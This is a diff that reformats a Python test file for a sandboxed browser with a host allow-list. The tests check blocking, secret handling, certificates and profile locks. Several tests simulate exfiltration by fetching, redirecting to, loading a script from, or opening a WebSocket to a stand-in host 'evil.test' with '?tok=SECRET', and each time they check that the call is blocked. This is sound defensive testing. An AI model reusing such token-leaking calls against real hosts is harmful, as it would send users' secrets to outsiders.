@@ -50,7 +50,11 @@ def test_behind_the_persons_proxy_a_forbidden_host_is_still_not_reached(
             with launched(Settings(tmp_path / "p", headless=True, executable=SHELL)) as browser:
                 browser.allow([site.host, "service.test"], [])
                 browser.open(f"{site.base}/page")
-                for target in ("http://evil.test/?tok=SECRET", "https://evil.test/?tok=SECRET", f"{stranger.base}/?tok=SECRET"):
+                for target in (
+                    "http://evil.test/?tok=SECRET",
+                    "https://evil.test/?tok=SECRET",
+                    f"{stranger.base}/?tok=SECRET",
+                ):
                     browser.page.evaluate("u => fetch(u, {mode: 'no-cors'}).catch(e => 0)", target)
                 assert asked == []
                 assert {"evil.test:80", "evil.test:443", stranger.host} <= set(browser.blocked())
@@ -80,7 +84,11 @@ def test_nothing_readable_or_telling_stays_on_disk(
     open_to_others = [p for p in folder.rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o077]
     assert open_to_others == []
     for path in tmp_path.rglob("*"):
-        assert path.suffix not in {".zip", ".har", ".webm", ".log"} or "leveldb" in str(path) or path.name.endswith("00003.log"), path
+        assert (
+            path.suffix not in {".zip", ".har", ".webm", ".log"}
+            or "leveldb" in str(path)
+            or path.name.endswith("00003.log")
+        ), path
         if path.is_file() and not path.is_symlink():
             assert b"correct horse battery" not in path.read_bytes(), path
     out = capfd.readouterr()
@@ -92,11 +100,18 @@ def test_https_replicas_and_a_redirect_between_names(
     tmp_path: Path, make_site: Callable[..., Site], tls: tuple[ssl.SSLContext, str]
 ) -> None:
     """The names resolve for the proxy, and the other server would answer: only the allow-list stands between them."""
-    service, evil = make_site({"/": "<input type=password id=p>"}, tls_name="service.test"), make_site({"/": "leaked"}, tls_name="evil.test")
+    service, evil = (
+        make_site({"/": "<input type=password id=p>"}, tls_name="service.test"),
+        make_site({"/": "leaked"}, tls_name="evil.test"),
+    )
     service.pages["/go"] = (302, {"Location": "https://evil.test/?tok=SECRET"}, "")
-    service.pages["/link"] = "<a href='https://evil.test/?tok=SECRET'>away</a><script src='https://evil.test/x.js'></script>"
+    service.pages["/link"] = (
+        "<a href='https://evil.test/?tok=SECRET'>away</a><script src='https://evil.test/x.js'></script>"
+    )
     way = Way(reroute={"service.test": ("127.0.0.1", service.port), "evil.test": ("127.0.0.1", evil.port)})
-    with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=way, trusted_keys=(tls[1],))) as browser:
+    with launched(
+        Settings(tmp_path / "p", headless=True, executable=SHELL, way=way, trusted_keys=(tls[1],))
+    ) as browser:
         browser.allow(["service.test"], [])
         browser.open("https://service.test/")
         assert browser.on_site() and browser.url == "https://service.test/"
@@ -105,7 +120,9 @@ def test_https_replicas_and_a_redirect_between_names(
             browser.open("https://service.test/go")
         assert caught.value.kind == "blocked_host" and caught.value.url.startswith("https://evil.test/")
         browser.open("https://service.test/link")
-        browser.page.evaluate("new Promise(r => { const w = new WebSocket('wss://evil.test/'); w.onopen = w.onerror = r })")
+        browser.page.evaluate(
+            "new Promise(r => { const w = new WebSocket('wss://evil.test/'); w.onopen = w.onerror = r })"
+        )
         browser.page.get_by_text("away").click()
         browser.pump(0.2)
         assert not browser.on_site() and browser.blocked() == ["evil.test:443"]
@@ -120,7 +137,9 @@ def test_https_replicas_and_a_redirect_between_names(
             browser.open("https://evil.test/")
 
 
-def test_a_replicas_certificate_is_not_good_without_its_key_being_named(tmp_path: Path, make_site: Callable[..., Site]) -> None:
+def test_a_replicas_certificate_is_not_good_without_its_key_being_named(
+    tmp_path: Path, make_site: Callable[..., Site]
+) -> None:
     """Nothing but the test option makes a certificate good that does not verify."""
     service = make_site({"/": "x"}, tls_name="service.test")
     way = Way(reroute={"service.test": ("127.0.0.1", service.port)})
@@ -143,7 +162,11 @@ def test_a_driver_that_dies_is_an_error_with_a_next_step(tmp_path: Path, site: S
             os.kill(child, signal.SIGKILL)
         browser.pump(0.3)
         assert not browser.alive() and not browser.on_site()
-        for call in (lambda: browser.open(f"{site.base}/page"), lambda: browser.read(locator), lambda: browser.type_secret(locator, "x")):
+        for call in (
+            lambda: browser.open(f"{site.base}/page"),
+            lambda: browser.read(locator),
+            lambda: browser.type_secret(locator, "x"),
+        ):
             with pytest.raises(BrowserError, match="window was closed"):
                 call()
 
@@ -156,7 +179,9 @@ def _children() -> set[int]:
 def test_a_second_start_says_who_holds_the_profile(tmp_path: Path) -> None:
     """One process at a time, and the refusal names the other one."""
     code = "import sys; from pathlib import Path; from readdress.browser.profile import held\nwith held(Path(sys.argv[1])): print('held', flush=True); sys.stdin.read()"
-    other = subprocess.Popen([sys.executable, "-c", code, str(tmp_path / "p")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    other = subprocess.Popen(
+        [sys.executable, "-c", code, str(tmp_path / "p")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
     assert other.stdin is not None and other.stdout is not None
     try:
         assert other.stdout.readline() == "held\n"
@@ -176,11 +201,18 @@ def test_a_second_start_says_who_holds_the_profile(tmp_path: Path) -> None:
         other.wait(5)
 
 
-def test_the_mark_of_a_dead_browser_is_taken_over_and_that_of_a_live_one_is_not(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_mark_of_a_dead_browser_is_taken_over_and_that_of_a_live_one_is_not(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A browser killed with us, or in a container of another name, leaves SingletonLock behind, and the next start would fail."""
     folder = tmp_path / "p"
     folder.mkdir()
-    for left in (f"{socket.gethostname()}-999999999", "another-machine-1", "nonsense", f"{socket.gethostname()}-{os.getpid()}"):
+    for left in (
+        f"{socket.gethostname()}-999999999",
+        "another-machine-1",
+        "nonsense",
+        f"{socket.gethostname()}-{os.getpid()}",
+    ):
         (folder / "SingletonLock").symlink_to(left)
         with held(folder):
             assert not (folder / "SingletonLock").is_symlink(), left
@@ -217,7 +249,9 @@ def test_the_whole_chromium_works_too_and_speaks_chinese(tmp_path: Path, site: S
         browser.type_secret(browser.page.locator("input"), "pass")
         assert browser.page.evaluate("fetch('https://update.googleapis.com/').catch(e => 'no')") == "no"
         browser.pump(0.5)
-        assert browser.blocked() == ["update.googleapis.com:443"]  # and nothing that the browser asks of its maker by itself
+        assert browser.blocked() == [
+            "update.googleapis.com:443"
+        ]  # and nothing that the browser asks of its maker by itself
     assert not [p for p in (tmp_path / "p").rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o077]
 
 
@@ -230,7 +264,9 @@ def _browsers_of(folder: Path) -> list[int]:
                 command = (entry / "cmdline").read_bytes().split(b"\0")
             except OSError:
                 continue
-            if os.fsencode(f"--user-data-dir={folder}") in command and not any(c.startswith(b"--type=") for c in command):
+            if os.fsencode(f"--user-data-dir={folder}") in command and not any(
+                c.startswith(b"--type=") for c in command
+            ):
                 found.append(int(entry.name))
     assert found
     return found
